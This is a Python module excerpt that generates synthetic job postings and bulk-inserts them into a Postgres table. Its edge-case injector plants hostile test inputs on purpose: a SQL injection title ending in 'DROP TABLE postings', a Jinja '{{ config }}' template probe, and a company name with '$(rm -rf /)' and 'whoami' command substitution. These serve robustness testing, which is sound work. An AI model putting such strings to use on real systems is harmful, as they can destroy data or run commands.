    row: dict[str, Any] = {
        "posting_id": posting_id, "title": title, "company": company, "location": location,
        "remote_policy": policy, "seniority": level, "description": description,
        "salary_min": salary_min, "salary_max": salary_max, "currency": currency_out,
        "source": "sample", "posted_at": posted_at, "times_reposted": times_reposted,
        "enabled": enabled, "extracted_summary": summary, "summary_saved_at": summary_saved_at,
        "_edge": None,
    }
    if r() < EDGE_SHARE:
        _apply_edge(row, rng)
    return row


def _apply_edge(row: dict[str, Any], rng: random.Random) -> None:
    kind = rng.choices(_EDGE_KINDS, _EDGE_WEIGHTS)[0]
    row["_edge"] = kind
    fmt = {"title": row["title"], "company": row["company"]}
    if kind == "empty":
        row["description"] = ""
    elif kind == "huge":
        head = row["description"] + "\n\nFull list of past projects:\n\n"
        row["description"] = (head + _huge_text())[:HUGE_DESCRIPTION_CHARS]
    elif kind == "unicode":
        title, company, location, currency, body = rng.choice(_UNICODE_VARIANTS)
        row.update(title=title, company=company, location=location, description=body)
        if row["salary_min"] is not None:
            row["currency"] = currency
    elif kind == "html":
        body = rng.choice(_HTML_BODIES)
        row["description"] = body.replace("{title}", fmt["title"]).replace(
            "{company}", fmt["company"])
        if rng.random() < 0.5:
            row["title"] = f"<b>{row['title']}</b>"
    elif kind == "sql":
        row["description"] = row["description"] + "\n\n" + rng.choice(_SQL_BODIES)
        if rng.random() < 0.5:
            row["title"] = row["title"] + "'; DROP TABLE postings; --"
        if rng.random() < 0.3:
            row["company"] = "O'Reilly & Sons\\' Ltd"
    elif kind == "jinja":
        row["description"] = rng.choice(_JINJA_BODIES) + "\n\n" + row["description"]
        if rng.random() < 0.5:
            row["title"] = row["title"] + " {{ config }}"
    elif kind == "shell":
        row["description"] = row["description"] + "\n\n" + rng.choice(_SHELL_BODIES)
        if rng.random() < 0.5:
            row["company"] = "$(rm -rf /) `whoami` Ltd"


def iter_postings(count: int, seed: int = 42, start_id: int = 1) -> Iterator[dict[str, Any]]:
    """Lazily yield ``count`` postings with ids start_id .. start_id+count-1."""
    for pid in range(start_id, start_id + count):
        yield make_posting(pid, seed)


def generate_postings(count: int, seed: int = 42, start_id: int = 1) -> list[dict[str, Any]]:
    """``count`` postings as a list (see :func:`iter_postings` for a lazy version)."""
    return list(iter_postings(count, seed, start_id))


# ---------------------------------------------------------------------------- writing


def insert_rows(db: Any, rows: Callable[[], Iterable[dict[str, Any]]]) -> int:
    """COPY rows into ``public.postings`` in one transaction; existing ids are left alone.

    ``rows`` is a factory (called once per try, since ``db.run`` may retry) that
    returns an iterable of posting dicts; keys starting with ``_`` are ignored
    and missing columns get NULL, except ``source``, which defaults to 'sample'.
    Every text value passes through :func:`clean_text`. Returns rows inserted.
    """
    cols = ", ".join(COLUMNS)
    source_idx = COLUMNS.index("source")
    text_idx = [i for i, c in enumerate(COLUMNS) if c in TEXT_COLUMNS]

    def fn(conn: Any) -> int:
        with conn.cursor() as cur:
            cur.execute("CREATE TEMP TABLE _interp_postings_in "
                        "(LIKE public.postings INCLUDING DEFAULTS) ON COMMIT DROP")
            with cur.copy(f"COPY _interp_postings_in ({cols}) FROM STDIN") as copy:
                for row in rows():
                    values = [row.get(c) for c in COLUMNS]
                    if values[source_idx] is None:
                        values[source_idx] = "sample"
                    for i in text_idx:
                        v = values[i]
                        if v is not None:
                            values[i] = clean_text(v)
                    copy.write_row(values)
            cur.execute(f"INSERT INTO public.postings ({cols}) SELECT {cols} "
                        "FROM _interp_postings_in ON CONFLICT (posting_id) DO NOTHING")
            inserted = cur.rowcount
            cur.execute("DROP TABLE _interp_postings_in")
            return inserted

    return db.run(fn)


def insert_postings(db: Any, count: int, seed: int = 42, start_id: int = 1) -> int:
    """Generate ``count`` postings lazily and COPY them in; returns the number inserted.

    Ids that already exist are skipped (ON CONFLICT DO NOTHING), so running it
    twice with the same arguments inserts nothing the second time.
    """
    if count <= 0:
        return 0
    return insert_rows(db, lambda: iter_postings(count, seed, start_id))
